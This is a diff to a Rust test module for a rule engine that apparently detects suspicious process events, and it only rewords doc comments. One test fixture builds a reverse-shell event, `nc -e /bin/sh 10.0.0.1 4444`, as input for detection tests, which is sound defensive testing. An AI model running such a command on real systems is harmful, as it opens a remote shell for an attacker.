@@ -1,4 +1,4 @@
-//! Rules, from text to verdict.
+//! Rules, from text to match.
 
 mod changes;
 mod classes;
@@ -44,7 +44,7 @@ fn rules_with(text: &str, options: &Options) -> RuleSet {
         .unwrap_or_else(|| panic!("{}", report.text()))
 }
 
-/// Everything that is said about files.
+/// The whole report about files.
 fn complaints(texts: &[&str]) -> String {
     let files: Vec<_> = texts
         .iter()
@@ -70,7 +70,7 @@ fn matches(set: &RuleSet, program: &Program) -> Vec<String> {
     })
 }
 
-/// A rule of that name and condition.
+/// The text of a rule with that name and condition.
 fn rule(name: &str, condition: &str) -> String {
     let condition = condition.replace('\'', "''");
     format!(
@@ -83,7 +83,7 @@ fn verdict(condition: &str, program: &Program) -> bool {
     !matches(&rules(&rule("r", condition)), program).is_empty()
 }
 
-/// `/usr/bin/nc -e /bin/sh 10.0.0.1 4444` by a shell.
+/// The event `/usr/bin/nc -e /bin/sh 10.0.0.1 4444` with a shell as parent.
 fn netcat() -> Program {
     Program::exec("/usr/bin/nc", &["-e", "/bin/sh", "10.0.0.1", "4444"])
 }
